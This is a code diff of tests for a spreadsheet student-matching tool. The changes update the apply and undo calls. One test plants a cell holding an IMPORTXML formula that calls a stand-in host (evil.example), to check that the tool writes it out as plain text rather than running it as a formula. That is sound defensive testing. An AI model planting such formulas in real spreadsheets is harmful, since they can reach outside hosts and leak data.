@@ -109,7 +109,8 @@ describe('Match and apply (built bundle)', () => {
       const fakes = seeded(rosterTabs(count));
       run(fakes, 'menuSetUpProgram');
       fakes.calls.reset();
-      const report = run(fakes, 'applyMatches', { locked: [], swapped: [], excluded: [] }) as { pairsWritten: number };
+      const outcome = run(fakes, 'applyMatches', { options: { locked: [], swapped: [], excluded: [] } }) as { report: { pairsWritten: number; version: number } };
+      const report = outcome.report;
       return { fakes, report, calls: fakes.calls.snapshot() };
     };
     const small = callsFor(12);
@@ -118,7 +119,7 @@ describe('Match and apply (built bundle)', () => {
     expect(large.calls).toEqual(small.calls);
     const pairs = small.fakes.spreadsheet.getSheetByName('Pairs')!.getDataRange().getValues();
     expect(pairs.length - 1).toBe(small.report.pairsWritten);
-    run(small.fakes, 'undoApply');
+    expect(run(small.fakes, 'undoChange', small.report.version)).toEqual({ restored: ['Pairs', 'Waitlist'], label: 'Apply matching' });
     expect(small.fakes.spreadsheet.getSheetByName('Pairs')!.getDataRange().getValues()).toHaveLength(1);
   });
 
@@ -128,7 +129,7 @@ describe('Match and apply (built bundle)', () => {
     setCell(tabs, 'Students', 3, 'Name', `'=IMPORTXML("http://evil.example","//a")`);
     const fakes = seeded(tabs);
     run(fakes, 'menuSetUpProgram');
-    run(fakes, 'applyMatches', { locked: [], swapped: [], excluded: [] });
+    run(fakes, 'applyMatches', { options: { locked: [], swapped: [], excluded: [] } });
     const pairs = fakes.spreadsheet.getSheetByName('Pairs')!;
     expect(pairs.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
     expect(pairs.getDataRange().getValues().flat()).toContain('=IMPORTXML("http://evil.example","//a")');
